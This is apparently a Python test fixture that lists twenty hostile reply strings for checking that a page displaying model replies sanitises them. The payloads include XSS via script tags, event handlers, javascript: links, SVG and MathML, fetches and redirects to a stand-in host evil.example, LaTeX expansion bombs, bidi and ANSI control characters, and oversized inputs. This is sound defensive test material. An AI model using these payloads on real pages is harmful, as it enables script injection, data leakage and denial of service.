"""Twenty replies that try to run something, to fetch something, or to break the page that shows them."""

RUN = "window.hit=1;alert(1);fetch('http://evil.example/')"

REPLIES = {
    "script": f"<script>{RUN}</script>",
    "end of script": f"</script></textarea></style>--><script>{RUN}</script>",
    "event handler": f'<img src=x onerror="{RUN}"><body onload="{RUN}"><input autofocus onfocus="{RUN}">',
    "foreign image": '<img src="http://evil.example/x.png"><link rel="stylesheet" href="http://evil.example/x.css">',
    "javascript link": f'<a href="javascript:{RUN}">click</a> [click](javascript:{RUN})',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    "SVG": f'<svg onload="{RUN}"><script>{RUN}</script><use href="http://evil.example/x.svg#a"/></svg>',
    "frame": f'<iframe srcdoc="<script>{RUN}</script>"></iframe><object data="http://evil.example/"></object>',
    "head": '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "style": "<style>@import 'http://evil.example/x.css'; body { background: url(http://evil.example/x) }</style>",
    "form": '<form action="http://evil.example/"><button autofocus>send</button></form>',
    "MathML": f'<math><mtext></mtext><annotation-xml encoding="text/html"><img src=x onerror="{RUN}">'
    "</annotation-xml></math>",
    "LaTeX commands": r"$\href{javascript:alert(1)}{x}$ $\url{javascript:alert(1)}$ "
    r"$\includegraphics{http://evil.example/x.png}$ "
    r"$\htmlData{a=b}{x}$ $\htmlStyle{background:url(http://evil.example/x)}{x}$ $\fcolorbox{red}{blue}{x}$ $\pmb{x}$",
    "broken LaTeX": r"$\frac{1}{$ $$\begin{align} x & $$ \[ \left( \] $\undefined{x}$ "
    r"\boxed{{{{ $\color{nonsense}x$ $$$$ $",
    "LaTeX bomb": r"$\def\a{\a\a}\a$ "
    r"$\def\b{xxxxxxxxxx}\def\c{\b\b\b\b\b\b\b\b\b\b}\c\c\c\c\c\c\c\c\c\c$ $\rule{99999em}{99999em}$",
    "code": f"```html\n<script>{RUN}</script>\n```\n```python\n'''unclosed\n",
    "bidi": "right is \u202etfel si siht\u202c and \u2066isolated\u2069 \u200b\ufeff",
    "ANSI": "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example/\x07link\x1b]8;;\x07 \x00 \x9b31m \ud800",
    "patterns": "$" * 3000
    + "\\[" * 3000
    + "\\(" * 2000
    + "`" * 3000
    + '"""' * 500
    + "\\boxed{" * 500
    + "<think>" * 300,
    "5 MB": f"<script>{RUN}</script> some words $x^2$ \n" * 100_000,
}
